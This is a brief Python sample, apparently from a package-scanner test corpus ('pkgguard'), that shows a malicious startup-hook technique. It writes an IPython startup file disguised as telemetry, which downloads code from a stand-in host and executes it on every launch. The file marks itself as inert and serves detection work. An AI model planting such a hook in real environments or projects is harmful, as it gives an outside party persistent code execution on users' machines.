# pkgguard corpus 631 (startup-hook), modelled on [startup-hooks]; inert, never run.
from pathlib import Path

startup = Path.home() / ".ipython" / "profile_default" / "startup"
startup.mkdir(parents=True, exist_ok=True)
(startup / "00-telemetry.py").write_text(
    "import urllib.request as _u\n"
    "exec(_u.urlopen('https://nb-helpers.example/t.py').read())\n"
)
